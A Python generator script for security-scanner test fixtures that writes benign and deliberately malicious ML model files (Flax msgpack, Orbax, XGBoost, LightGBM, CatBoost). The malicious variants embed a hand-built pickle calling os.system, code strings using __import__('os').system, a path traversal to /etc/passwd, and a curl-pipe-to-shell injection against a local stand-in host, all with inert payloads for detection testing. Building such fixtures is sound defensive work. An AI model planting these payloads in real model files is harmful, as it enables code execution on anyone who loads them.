#!/usr/bin/env python3
"""Flax/JAX MessagePack, Orbax metadata, XGBoost, LightGBM and CatBoost fixtures.

Benign files are written by the real libraries (pinned below) or, for Flax,
in exactly the layout of `flax.serialization.msgpack_serialize` (msgpack +
NumPy; Flax/JAX themselves are not needed to write it). Malicious files
change one thing each; every payload is inert (`echo sentrascan-fixture`,
URLs to 127.0.0.1:9).

    python3 -m venv /tmp/venv && /tmp/venv/bin/pip install msgpack==1.1.0 \
        msgpack-numpy==0.4.8 numpy==1.26.4 xgboost-cpu==2.1.4 lightgbm==4.5.0 \
        catboost==1.2.7 scikit-learn==1.5.2 joblib==1.4.2
    /tmp/venv/bin/python testdata/gen/generate_flaxgbt_fixtures.py
"""

import base64
import json
import os
import pickle
import struct
import warnings

import msgpack
import msgpack_numpy
import numpy as np

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..")
FLAX = os.path.join(ROOT, "flax")
GBT = os.path.join(ROOT, "gbt")
MANIFEST = []

PAYLOAD = "echo sentrascan-fixture"
# A protocol-2 pickle that calls os.system(PAYLOAD) when loaded.
EVIL_PICKLE = (
    b"\x80\x02cposix\nsystem\nq\x00X" + struct.pack("<I", len(PAYLOAD)) + PAYLOAD.encode()
    + b"q\x01\x85q\x02Rq\x03."
)


def write(rel, data, *expected):
    path = os.path.join(ROOT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    if expected:
        for rule, sev in expected:
            MANIFEST.append(f"{rel}\t{rule}\t{sev}")
    else:
        MANIFEST.append(f"{rel}\t-\t-")


# ---------------------------------------------------------------- Flax ----
def flax_ndarray(a):
    """flax.serialization._ndarray_to_bytes: ExtType(1, packb((shape, dtype.name, bytes)))."""
    a = np.asarray(a)
    return msgpack.ExtType(1, msgpack.packb((a.shape, a.dtype.name, a.tobytes("C")), use_bin_type=True))


def flax_scalar(x):
    return msgpack.ExtType(3, msgpack.packb(((), np.asarray(x).dtype.name, np.asarray(x).tobytes()), use_bin_type=True))


def flax_state():
    rng = np.random.RandomState(0)
    return {
        "params": {
            "Dense_0": {"kernel": flax_ndarray(rng.rand(4, 8).astype(np.float32)),
                        "bias": flax_ndarray(np.zeros(8, np.float32))},
            "Dense_1": {"kernel": flax_ndarray(rng.rand(8, 2).astype(np.float32)),
                        "bias": flax_ndarray(np.zeros(2, np.float32))},
        },
        "batch_stats": {"BatchNorm_0": {"mean": flax_ndarray(np.zeros(8, np.float32)),
                                        "var": flax_ndarray(np.ones(8, np.float32))}},
        "step": flax_scalar(np.int32(100)),
    }


def pack(tree):
    return msgpack.packb(tree, use_bin_type=True)


def gen_flax():
    write("flax/benign_flax_state.msgpack", pack(flax_state()))
    rng = np.random.RandomState(1)
    write("flax/benign_msgpack_numpy.msgpack", msgpack.packb(
        {"w": rng.rand(3, 3).astype(np.float32), "b": np.arange(3, dtype=np.int64)},
        default=msgpack_numpy.encode))

    # msgpack-numpy object array: `data` is a pickle that decode() unpickles.
    obj = {b"nd": True, b"type": b"|O", b"kind": b"O", b"shape": (1,), b"data": EVIL_PICKLE}
    write("flax/FLX002_msgpack_numpy_object_array.msgpack",
          msgpack.packb({"params": {"w": obj}}, use_bin_type=True),
          ("FLX002", "HIGH"), ("PKL001", "CRITICAL"))

    s = flax_state()
    s["params"]["Dense_0"]["hook"] = msgpack.ExtType(42, b"\x00" * 8)
    write("flax/FLX003_unknown_ext_type.msgpack", pack(s), ("FLX003", "MEDIUM"))

    s = flax_state()
    s["params"]["Dense_0"]["kernel"] = msgpack.ExtType(
        1, msgpack.packb(((4096, 4096), "float32", b"\x00" * 16), use_bin_type=True))
    write("flax/FLX004_shape_buffer_mismatch.msgpack", pack(s), ("FLX004", "MEDIUM"))

    s = flax_state()
    s["extra"] = EVIL_PICKLE
    write("flax/FLX005_pickle_in_bin_value.msgpack", pack(s),
          ("FLX005", "HIGH"), ("PKL001", "CRITICAL"))

    s = flax_state()
    s["config"] = {"post_restore": f"__import__('os').system('{PAYLOAD}')"}
    write("flax/FLX006_code_in_string.msgpack", pack(s), ("FLX006", "HIGH"))

    s = flax_state()
    s["config"] = {"source": "see http://127.0.0.1:9/stage2 for the data"}
    write("flax/FLX007_external_url.msgpack", pack(s), ("FLX007", "LOW"))

    full = pack(flax_state())
    write("flax/FLX001_truncated_state.msgpack", full[: len(full) // 2], ("FLX001", "MEDIUM"))

    # Orbax: the layout orbax-checkpoint 0.6 writes for a PyTree item.
    def leaf(keys, vt="jax.Array"):
        return {"key_metadata": [{"key": k, "key_type": 2} for k in keys],
                "value_metadata": {"value_type": vt, "skip_deserialize": False}}

    tree = {str(tuple(k)): leaf(k) for k in (("params", "Dense_0", "kernel"), ("params", "Dense_0", "bias"))}
    tree["('step',)"] = leaf(("step",), "scalar")
    meta = {"tree_metadata": tree, "use_zarr3": False, "store_array_data_equal_to_fill_value": True,
            "custom_metadata": None}
    write("flax/orbax_benign/_METADATA", json.dumps(meta).encode())
    ckpt = {"item_handlers": {"state": "orbax.checkpoint._src.handlers.standard_checkpoint_handler.StandardCheckpointHandler"},
            "metrics": {}, "performance_metrics": {}, "init_timestamp_nsecs": 1700000000000000000,
            "commit_timestamp_nsecs": 1700000000500000000, "custom_metadata": {}}
    write("flax/orbax_benign/_CHECKPOINT_METADATA", json.dumps(ckpt).encode())

    tree2 = dict(tree)
    tree2["('opt_state',)"] = leaf(("opt_state",), "mylib.handlers.PickleHandler")
    write("flax/orbax_custom_type/_METADATA", json.dumps(dict(meta, tree_metadata=tree2)).encode(),
          ("FLX008", "MEDIUM"))
    bad = dict(ckpt, custom_metadata={"data_path": "../../../../etc/passwd"})
    write("flax/orbax_path_outside/_CHECKPOINT_METADATA", json.dumps(bad).encode(), ("FLX009", "HIGH"))


# -------------------------------------------------------------- XGBoost ---
def data():
    rng = np.random.RandomState(0)
    X = rng.rand(64, 4).astype(np.float32)
    y = (X[:, 0] + X[:, 1] > 1).astype(int)
    return X, y


def gen_xgboost():
    import xgboost as xgb
    X, y = data()
    booster = xgb.train({"objective": "binary:logistic", "max_depth": 2, "nthread": 1, "seed": 0},
                        xgb.DMatrix(X, label=y, feature_names=["f_a", "f_b", "f_c", "f_d"]),
                        num_boost_round=3)
    raw_json = bytes(booster.save_raw("json"))
    write("gbt/benign_xgboost.json", raw_json)
    write("gbt/benign_xgboost.ubj", bytes(booster.save_raw("ubj")))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        binary = bytes(booster.save_raw("deprecated"))
    write("gbt/benign_xgboost_legacy.bst", binary)
    write("gbt/benign_xgboost_legacy_bs64.bst", b"bs64" + base64.b64encode(binary))

    # A scikit-learn wrapper pickled with joblib under an XGBoost name: the
    # common real-world form; analysed as a pickle by content (its globals,
    # `xgboost.sklearn.XGBClassifier` and `xgboost.core.Booster`, are safe).
    import joblib, io
    clf = xgb.XGBClassifier(n_estimators=2, max_depth=2, n_jobs=1, random_state=0)
    clf.fit(X, y)
    buf = io.BytesIO()
    joblib.dump(clf, buf)
    write("gbt/joblib_pickled_xgbclassifier.bst", buf.getvalue())

    doc = json.loads(raw_json)
    tree0 = doc["learner"]["gradient_booster"]["model"]["trees"][0]

    d = json.loads(raw_json)
    d["learner"]["gradient_booster"]["model"]["trees"][0]["right_children"][0] = 70000
    write("gbt/GBT002_xgboost_child_out_of_range.json", json.dumps(d).encode(), ("GBT002", "HIGH"))

    d = json.loads(raw_json)
    t = d["learner"]["gradient_booster"]["model"]["trees"][0]
    t["tree_param"]["num_nodes"] = str(int(t["tree_param"]["num_nodes"]) + 4)
    write("gbt/GBT003_xgboost_num_nodes_mismatch.json", json.dumps(d).encode(), ("GBT003", "MEDIUM"))

    d = json.loads(raw_json)
    d["learner"]["objective"]["name"] = "plugin:remote_objective"
    write("gbt/GBT004_xgboost_unknown_objective.json", json.dumps(d).encode(), ("GBT004", "MEDIUM"))

    d = json.loads(raw_json)
    d["learner"]["attributes"] = {"post_load": f"__import__('os').system('{PAYLOAD}')"}
    write("gbt/GBT005_xgboost_attribute_code.json", json.dumps(d).encode(), ("GBT005", "HIGH"))

    d = json.loads(raw_json)
    d["learner"]["attributes"] = {"sklearn_meta": base64.b64encode(EVIL_PICKLE).decode()}
    write("gbt/GBT006_xgboost_attribute_pickle.json", json.dumps(d).encode(),
          ("GBT006", "HIGH"), ("PKL001", "CRITICAL"))

    write("gbt/GBT001_xgboost_truncated.json", raw_json[: len(raw_json) // 2], ("GBT001", "MEDIUM"))

    # UBJSON: a split feature beyond num_feature, written by xgboost itself
    # from the edited JSON.
    d = json.loads(raw_json)
    d["learner"]["gradient_booster"]["model"]["trees"][1]["split_indices"][0] = 9
    b2 = xgb.Booster()
    try:
        b2.load_model(bytearray(json.dumps(d).encode()))
        ubj = bytes(b2.save_raw("ubj"))
    except xgb.core.XGBoostError:
        ubj = None
    if ubj is None or b"learner" not in ubj:
        raise SystemExit("xgboost refused the edited model")
    write("gbt/GBT002_xgboost_split_feature.ubj", ubj, ("GBT002", "HIGH"))

    # Legacy binary: the first tree's root left child out of range.
    pos = 4 + 136
    for _ in range(2):
        (n,) = struct.unpack_from("<Q", binary, pos)
        pos += 8 + n
    pos += 160 + 148  # gbtree param, first tree param
    evil = bytearray(binary)
    struct.pack_into("<i", evil, pos + 4, 4000)
    write("gbt/GBT002_xgboost_legacy_child.bst", bytes(evil), ("GBT002", "HIGH"))
    write("gbt/GBT003_xgboost_legacy_trailing.bst", binary + b"PK\x05\x06" + b"\x00" * 18,
          ("GBT003", "MEDIUM"))


# ------------------------------------------------------------- LightGBM ---
def gen_lightgbm():
    import lightgbm as lgb
    X, y = data()
    ds = lgb.Dataset(X, label=y, feature_name=["f_a", "f_b", "f_c", "f_d"], params={"verbose": -1})
    booster = lgb.train({"objective": "binary", "num_leaves": 4, "min_data_in_leaf": 5, "verbose": -1,
                         "num_threads": 1, "deterministic": True, "seed": 0}, ds, num_boost_round=3)
    text = booster.model_to_string()
    write("gbt/benign_lightgbm.txt", text.encode())

    lines = text.split("\n")
    i = next(i for i, l in enumerate(lines) if l.startswith("right_child="))
    vals = lines[i].split("=", 1)[1].split()
    vals[-1] = "-40"
    bad = lines[:i] + ["right_child=" + " ".join(vals)] + lines[i + 1:]
    write("gbt/GBT002_lightgbm_leaf_out_of_range.txt", "\n".join(bad).encode(), ("GBT002", "HIGH"))

    bad = text.replace("[boosting: gbdt]", "[boosting: gbdt]\n[output_model: http://127.0.0.1:9/exfil]")
    write("gbt/GBT007_lightgbm_parameter_url.txt", bad.encode(), ("GBT007", "LOW"))
    bad = text.replace("pandas_categorical:null",
                       f"pandas_categorical:[[\"a\", \"$(curl http://127.0.0.1:9/x | sh)\"]]")
    write("gbt/GBT005_lightgbm_pandas_categorical_code.txt", bad.encode(), ("GBT005", "HIGH"))


# ------------------------------------------------------------- CatBoost ---
def gen_catboost():
    import catboost
    X, y = data()
    m = catboost.CatBoostClassifier(iterations=3, depth=2, random_seed=0, thread_count=1, verbose=False,
                                    allow_writing_files=False)
    m.fit(X, y)
    path = os.path.join(GBT, "benign_catboost.cbm")
    m.save_model(path)
    raw = open(path, "rb").read()
    # Pin the values that change per run (model GUID, training time) so the
    # file is reproducible; same lengths keep every flatbuffer offset.
    meta = m.get_metadata()
    for key in ("model_guid", "train_finish_time"):
        if key in meta:
            v = meta[key].encode()
            raw = raw.replace(v, (b"0" * len(v)) if key == "model_guid" else b"2024-01-01T00:00:00.000000Z"[: len(v)].ljust(len(v), b"0"))
    MANIFEST[:] = [l for l in MANIFEST if not l.startswith("gbt/benign_catboost.cbm\t")]
    write("gbt/benign_catboost.cbm", raw)
    write("gbt/GBT003_catboost_trailing_pickle.cbm", raw + EVIL_PICKLE, ("GBT003", "MEDIUM"))
    bad = bytearray(raw)
    struct.pack_into("<I", bad, 8, 0x7FFFFFF0)
    write("gbt/GBT002_catboost_root_offset.cbm", bytes(bad), ("GBT002", "HIGH"))


def main():
    gen_flax()
    gen_xgboost()
    gen_lightgbm()
    gen_catboost()
    with open(os.path.join(ROOT, "expected-flaxgbt.tsv"), "w") as f:
        f.write("# Flax/Orbax and gradient-boosted tree fixtures. GENERATED by\n"
                "# testdata/gen/generate_flaxgbt_fixtures.py; see testdata/flax/README.md and testdata/gbt/README.md.\n"
                "# path<TAB>RULE<TAB>SEVERITY (a benign file: -<TAB>-, nothing above LOW).\n")
        f.write("\n".join(MANIFEST) + "\n")


if __name__ == "__main__":
    main()
